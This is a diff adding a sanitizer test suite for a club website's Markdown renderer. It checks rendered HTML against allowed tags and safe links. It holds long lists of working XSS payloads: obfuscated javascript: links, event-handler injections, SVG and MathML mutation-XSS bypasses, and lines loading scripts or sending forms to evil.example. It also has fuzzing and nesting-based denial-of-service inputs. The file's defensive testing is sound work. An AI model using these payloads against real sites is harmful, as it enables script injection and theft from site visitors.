@@ -1,0 +1,383 @@
+import fc from 'fast-check';
+import { defaultTreeAdapter, html as namespaces, parseFragment, serialize, type DefaultTreeAdapterTypes } from 'parse5';
+import { describe, expect, test } from 'vitest';
+import { CLUB_LIMITS } from '../src/clubs/record.ts';
+import { renderClubTexts } from '../src/markdown.ts';
+
+type Node = DefaultTreeAdapterTypes.Node;
+type Element = DefaultTreeAdapterTypes.Element;
+
+const renderCard = async (text: string) =>
+  (await renderClubTexts({ shortDescription: text, description: '' })).shortDescriptionHtml;
+const renderPage = async (text: string) =>
+  (await renderClubTexts({ shortDescription: '', description: text })).descriptionHtml;
+
+const ON_CARDS = ['p', 'br', 'em', 'strong', 'a', 'ul', 'ol', 'li', 'blockquote', 'code', 'pre'];
+const ON_PAGES = [...ON_CARDS, 'h3', 'h4', 'h5', 'h6', 'hr'];
+
+/** Every element that a browser makes of the HTML, those inside of templates too. */
+function elementsOf(html: string): Element[] {
+  const elements: Element[] = [];
+  const visit = (node: Node) => {
+    if (defaultTreeAdapter.isElementNode(node)) elements.push(node);
+    if ('content' in node) visit(node.content);
+    if ('childNodes' in node) node.childNodes.forEach(visit);
+  };
+  visit(parseFragment(html));
+  return elements;
+}
+
+function textOf(html: string): string {
+  const collect = (node: Node): string =>
+    'value' in node ? node.value : 'childNodes' in node ? node.childNodes.map(collect).join('') : '';
+  return collect(parseFragment(html));
+}
+
+const attributesOf = ({ attrs }: Element) => Object.fromEntries(attrs.map(({ name, value }) => [name, value]));
+const linksOf = (html: string) => elementsOf(html).filter(({ tagName }) => tagName === 'a');
+
+/** What is wrong with HTML that a stranger's text came to. */
+function findFaults(html: string, allowedTags: string[]): string[] {
+  const faults: string[] = [];
+  for (const element of elementsOf(html)) {
+    const attributes = attributesOf(element);
+    const { href } = attributes;
+    const expected = href === undefined ? {} : { href, rel: 'nofollow ugc noopener' };
+    if (element.namespaceURI !== namespaces.NS.HTML) faults.push(`<${element.tagName}> of ${element.namespaceURI}`);
+    if (!allowedTags.includes(element.tagName)) faults.push(`<${element.tagName}>`);
+    if (href !== undefined && element.tagName !== 'a') faults.push(`href on <${element.tagName}>`);
+    if (JSON.stringify(attributes) !== JSON.stringify(expected))
+      faults.push(`attributes ${JSON.stringify(attributes)}`);
+    if (href !== undefined && !isForeignAddress(href)) faults.push(`link to ${href}`);
+  }
+  if (/<!|<\?/.test(html)) faults.push('a comment, doctype or instruction');
+  // A second reading must find the same: text that becomes an element when it is written and read again is an old trick.
+  const again = serialize(parseFragment(html));
+  if (serialize(parseFragment(again)) !== again) faults.push('a tree that changes when it is read again');
+  return faults;
+}
+
+/** As a browser reads it on a page of this site. */
+function isForeignAddress(href: string): boolean {
+  const url = URL.parse(href, 'https://clubs.example.org/club/1/');
+  if (!url) return false;
+  if (url.protocol === 'mailto:') return true;
+  return /^https?:$/.test(url.protocol) && url.host !== 'clubs.example.org';
+}
+
+const LINK_ATTACKS = [
+  'javascript:alert(1)',
+  'JavaScript:alert(1)',
+  'javascript&colon;alert(1)',
+  'java&Tab;script:alert(1)',
+  'java&NewLine;script:alert(1)',
+  '&#106;avascript:alert(1)',
+  '&#x6A;&#x61;vascript:alert(1)',
+  '&#0000106avascript:alert(1)',
+  'javascript&#58;alert(1)',
+  '&#1;javascript:alert(1)',
+  '\u0001javascript:alert(1)',
+  '\u00a0javascript:alert(1)',
+  '%20javascript:alert(1)',
+  'javascript%3Aalert(1)',
+  'jav\u0000ascript:alert(1)',
+  'javascript://example.org/%0aalert(1)',
+  'vbscript:msgbox(1)',
+  'VbScRiPt:msgbox(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'blob:https://clubs.example.org/1',
+  'filesystem:https://clubs.example.org/1',
+  'file:///etc/passwd',
+  'ftp://example.org/',
+  'intent://example.org/#Intent;end',
+  'tel:112',
+  'about:blank',
+  'view-source:https://example.org',
+  'x:https://example.org',
+  '//evil.example',
+  '///evil.example',
+  '\\\\evil.example',
+  '/\\evil.example',
+  '/club/new/',
+  'club/new/',
+  '../',
+  '?name=x',
+  '#paginated',
+  'https:evil',
+  'https:/evil',
+  'http:',
+  'https:\\\\evil',
+  '',
+  ' ',
+];
+
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<script/x>alert(1)</script/y>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script\n>alert(1)</script>',
+  '<<script>alert(1)//<</script>',
+  '<script>alert(1)',
+  '</p><script>alert(1)</script><p>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://evil.example/pixel.png">',
+  '![pixel](https://evil.example/pixel.png)',
+  '![pixel](javascript:alert(1))',
+  '![pixel][ref]\n\n[ref]: https://evil.example/pixel.png',
+  '<image src=x onerror=alert(1)>',
+  '<picture><source srcset=https://evil.example/x.png></picture>',
+  '<p onclick=alert(1) onmouseover="alert(1)">text</p>',
+  '<p/onclick=alert(1)>text',
+  '<em style="position:fixed;inset:0">text</em>',
+  '<strong id="paginated" name="paginated" class="club-card">text</strong>',
+  '<a id=x name=y class=z style="color:red" target=_top download ping="https://evil.example" href="https://example.org">x</a>',
+  '<a rel="opener" href="https://example.org">x</a>',
+  '<a hx-get="/club/" hx-trigger="load" hx-target="body" data-hx-get="/club/" data-count=1 href="https://example.org">x</a>',
+  '<p hx-on:click="alert(1)" data-x=1 x-data="{}" aria-label="x" role=button tabindex=0 contenteditable>text</p>',
+  '<div hx-get="/api/club/search" hx-trigger="load">text</div>',
+  '<a xlink:href="javascript:alert(1)">x</a>',
+  '<a href="https://example.org" href="javascript:alert(1)">x</a>',
+  '<a href="javascript:alert(1)" href="https://example.org">x</a>',
+  '<a href=`javascript:alert(1)`>x</a>',
+  '<a href="https://example.org"><a href="javascript:alert(1)">x</a></a>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<svg><foreignObject><p onclick=alert(1)>text</p></foreignObject></svg>',
+  '<svg><title><img src=x onerror=alert(1)></title></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x>#x"/></svg>',
+  '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<math><annotation-xml encoding="text/html"><p onclick=alert(1)>text</p></annotation-xml></math>',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  '<template><script>alert(1)</script></template>',
+  '<template><p onclick=alert(1)>text</template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<noframes><p title="</noframes><script>alert(1)</script>">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<style><!--</style><script>alert(1)</script>-->',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  '<plaintext><script>alert(1)</script>',
+  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
+  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
+  '<table><tr><td><script>alert(1)</script></td></tr></table>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="https://evil.example"></object><embed src="https://evil.example">',
+  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<video src="https://evil.example/x.mp4" autoplay onloadstart=alert(1)></video><audio src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>text</marquee><body onload=alert(1)><frameset onload=alert(1)>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
+  '<slot></slot><club-card is="x"></club-card><dialog open>text</dialog>',
+  '<!-- comment --><!doctype html><?xml version="1.0"?><![CDATA[<script>alert(1)</script>]]>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '# <img src=x onerror=alert(1)>',
+  '# "><img src=x onerror=alert(1)>',
+  '# x" onclick="alert(1)',
+  '<h2 id="x" onclick="alert(1)">title</h2>',
+  '```"><script>alert(1)</script>\ntext\n```',
+  '~~~html onclick=alert(1) {class=x}\n<script>alert(1)</script>\n~~~',
+  '`<script>alert(1)</script>`',
+  '    <script>alert(1)</script>',
+  '[x](https://example.org "onclick=alert(1)")',
+  '[x](https://example.org"onclick="alert(1))',
+  '[x](https://example.org/\'"><script>alert(1)</script>)',
+  '<https://example.org/"onclick="alert(1)>',
+  '[<img src=x onerror=alert(1)>](https://example.org)',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '[^1]\n\n[^1]: footnote',
+  '| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | b |',
+  '- [ ] <input onfocus=alert(1)>',
+  '{% raw %}<script>alert(1)</script>{% endraw %} {{constructor.constructor("alert(1)")()}} ${alert(1)}',
+  '---\ntitle: x\nonload: alert(1)\n---\ntext',
+  'import x from "x"\n\nexport const y = <script>alert(1)</script>',
+  '\u0000<script>alert(1)</script>',
+  '<\u0000script>alert(1)</script>',
+  '\ufeff<script>alert(1)</script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '\u202e<p dir=rtl>text</p>',
+];
+
+describe.each([
+  { where: 'a card', render: renderCard, allowedTags: ON_CARDS, limit: CLUB_LIMITS.shortDescription },
+  { where: "a club's page", render: renderPage, allowedTags: ON_PAGES, limit: CLUB_LIMITS.description },
+])('The Markdown of $where', ({ render, allowedTags, limit }) => {
+  test.each([
+    ['nothing', '', ''],
+    ['blank lines', ' \n\t\n', ''],
+    ['paragraphs', 'one\n\ntwo', '<p>one</p>\n<p>two</p>'],
+    ['a line break', 'one  \ntwo', '<p>one<br>\ntwo</p>'],
+    ['emphasis', '*one* **two**', '<p><em>one</em> <strong>two</strong></p>'],
+    ['a list', '- one\n- two', '<ul>\n<li>one</li>\n<li>two</li>\n</ul>'],
+    ['a numbered list', '1. one\n2. two', '<ol>\n<li>one</li>\n<li>two</li>\n</ol>'],
+    ['a quotation', '> one', '<blockquote>\n<p>one</p>\n</blockquote>'],
+    ['code', '`one < two`', '<p><code>one &#x3C; two</code></p>'],
+    ['HTML that is on the list', '<em>one</em>', '<p><em>one</em></p>'],
+    ['quotes and dashes as they are', '"one" -- it\'s...', '<p>"one" -- it\'s...</p>'],
+  ])('renders %s', async (_, text, html) => {
+    expect(await render(text)).toBe(html);
+  });
+
+  test('renders a block of code without colours', async () => {
+    const html = await render('```js\nlet one = "<two>";\n```');
+    expect(findFaults(html, allowedTags)).toEqual([]);
+    expect(textOf(html)).toBe('let one = "<two>";\n');
+    expect(elementsOf(html).map(({ tagName }) => tagName)).toEqual(['pre', 'code']);
+  });
+
+  test.each([
+    '[x](https://example.org/a?b=c&d=e#f)',
+    '[x](http://example.org)',
+    '[x](mailto:ski@example.org)',
+    '<https://example.org>',
+    '<ski@example.org>',
+    '<a href="https://example.org">x</a>',
+    '[x][1]\n\n[1]: https://example.org',
+    '[x](<https://example.org/a b>)',
+  ])('links to other sites, and says that it does not vouch for them: %s', async (text) => {
+    const html = await render(text);
+    expect(findFaults(html, allowedTags)).toEqual([]);
+    expect(linksOf(html).map((link) => attributesOf(link).rel)).toEqual(['nofollow ugc noopener']);
+  });
+
+  test.each(LINK_ATTACKS)('makes no link to %j', async (href) => {
+    const escaped = href.replaceAll('"', '&quot;');
+    for (const text of [
+      `[look](${href})`,
+      `[look](<${href}>)`,
+      `[look][1]\n\n[1]: <${href}>`,
+      `<a href="${escaped}">look</a>`,
+      `<a href='${escaped}'>look</a>`,
+      `<A HREF=${escaped}>look</A>`,
+    ]) {
+      const html = await render(text);
+      expect(findFaults(html, allowedTags), text).toEqual([]);
+      expect(textOf(html), text).toContain('look');
+    }
+    // Autolinks know schemes only.
+    expect(findFaults(await render(`<${href}>`), allowedTags)).toEqual([]);
+  });
+
+  test.each(ATTACKS)('lets nothing through of %j', async (text) => {
+    expect(findFaults(await render(text), allowedTags)).toEqual([]);
+    expect(findFaults(await render(`before ${text} after`), allowedTags)).toEqual([]);
+    expect(findFaults(await render(`- > ${text}\n\n**${text}**`), allowedTags)).toEqual([]);
+  });
+
+  test('lets nothing through of any mixture of attacks', async () => {
+    const piece = fc.oneof(
+      fc.constantFrom(...ATTACKS),
+      fc.constantFrom(...LINK_ATTACKS),
+      fc.constantFrom('<', '>', '"', "'", '`', '\n', '\n\n', ' ', '-->', '</', '/>', '[', '](', ')', '#', '> ', '    '),
+      fc.constantFrom(
+        '<p>',
+        '</p>',
+        '<svg>',
+        '</svg>',
+        '<math>',
+        '<style>',
+        '</style>',
+        '<a href="',
+        '<h1 id="',
+        '<!--',
+      ),
+      fc.string({ maxLength: 8 }),
+    );
+    await fc.assert(
+      fc.asyncProperty(fc.array(piece, { maxLength: 8 }), async (pieces) => {
+        expect(findFaults(await render(pieces.join('')), allowedTags)).toEqual([]);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  test.each([
+    ['quotations', '> '.repeat(5_000) + 'x'],
+    ['lists', '- '.repeat(1_500) + 'x'],
+    ['lists, one deeper than the other', Array.from({ length: 180 }, (_, i) => `${' '.repeat(i)}- x`).join('\n')],
+    ['brackets', '['.repeat(10_000)],
+    ['brackets, closed', '['.repeat(5_000) + 'x' + ']'.repeat(5_000)],
+    ['links', '[x]('.repeat(4_000)],
+    ['images', '!['.repeat(8_000)],
+    ['emphasis', '*_'.repeat(2_500) + 'x'],
+    ['emphasis, closed', '*'.repeat(3_500) + 'x' + '*'.repeat(3_500)],
+    ['code marks', '`'.repeat(19_000)],
+    ['code marks of many lengths', Array.from({ length: 180 }, (_, i) => '`'.repeat(i)).join(' ')],
+    ['elements', '<div>'.repeat(3_900)],
+    ['allowed elements', '<blockquote>'.repeat(1_600)],
+    ['foreign elements', '<svg><g>'.repeat(2_400)],
+    ['half-open tags', '<a '.repeat(6_000)],
+    ['half-open comments', '<!--'.repeat(4_900)],
+    ['entities', '&amp'.repeat(4_900)],
+    ['references', Array.from({ length: 1_400 }, (_, i) => `[${i}]: x:${i}\n`).join('')],
+    ['headings', '# '.repeat(9_000)],
+  ])('stays safe with thousands of %s', async (_, text) => {
+    expect(findFaults(await render(text.slice(0, limit)), allowedTags)).toEqual([]);
+  });
+
+  test('keeps the words around what it takes away', async () => {
+    const html = await render('before <div onclick=alert(1)><u>inside</u></div> after');
+    expect(textOf(html)).toMatch(/before\s+inside\s+after/);
+  });
+
+  test('takes away what scripts and styles hold', async () => {
+    const html = await render('before <script>alert(1)</script><style>p{}</style> after');
+    expect(textOf(html)).not.toMatch(/alert|p\{/);
+    expect(textOf(html)).toMatch(/before\s+after/);
+  });
+
+  test('shows as text what is written as code', async () => {
+    const html = await render('`<h1 id="x">` and `<script>alert(1)</script>`');
+    expect(textOf(html)).toBe('<h1 id="x"> and <script>alert(1)</script>');
+  });
+});
+
+describe('Headings', () => {
+  const SIX = '# one\n\n## two\n\n### three\n\n#### four\n\n##### five\n\n###### six\n\nseven\n=====';
+
+  test('become emphasized paragraphs on a card', async () => {
+    expect(await renderCard('# One *two*\n\nthree')).toBe('<p><strong>One <em>two</em></strong></p>\n<p>three</p>');
+    expect(elementsOf(await renderCard(SIX)).map(({ tagName }) => tagName)).toEqual(
+      Array.from({ length: 7 }, () => ['p', 'strong']).flat(),
+    );
+  });
+
+  test("stand below those of the club's page", async () => {
+    expect(elementsOf(await renderPage(SIX)).map(({ tagName }) => tagName)).toEqual([
+      ...['h3', 'h4', 'h5', 'h6', 'h6', 'h6', 'h3'],
+    ]);
+  });
+
+  test('written in HTML follow the same rules', async () => {
+    expect(await renderCard('<h1 id="x">one</h1>')).toBe('<p><strong>one</strong></p>');
+    expect(await renderPage('<h1 id="x">one</h1>')).toBe('<h3>one</h3>');
+  });
+
+  test('have no ids, whatever they say', async () => {
+    const html = await renderPage('# paginated\n\n# paginated\n\n# a "quoted" <em>one</em> & more\n\n# é 中 🎿\n\n#');
+    expect(elementsOf(html).flatMap(({ attrs }) => attrs)).toEqual([]);
+  });
+});
+
+test('A rule parts the text of a page, and is left out on a card', async () => {
+  expect(await renderPage('one\n\n---\n\ntwo')).toBe('<p>one</p>\n<hr>\n<p>two</p>');
+  expect(elementsOf(await renderCard('one\n\n---\n\ntwo')).map(({ tagName }) => tagName)).toEqual(['p', 'p']);
+});
+
+test('The same text always comes to the same HTML', async () => {
+  const texts = { shortDescription: '# one\n\n[two](https://example.org)', description: '# one\n\n# one' };
+  const first = await renderClubTexts(texts);
+  await Promise.all(ATTACKS.map(renderPage));
+  expect(await renderClubTexts(texts)).toEqual(first);
+});
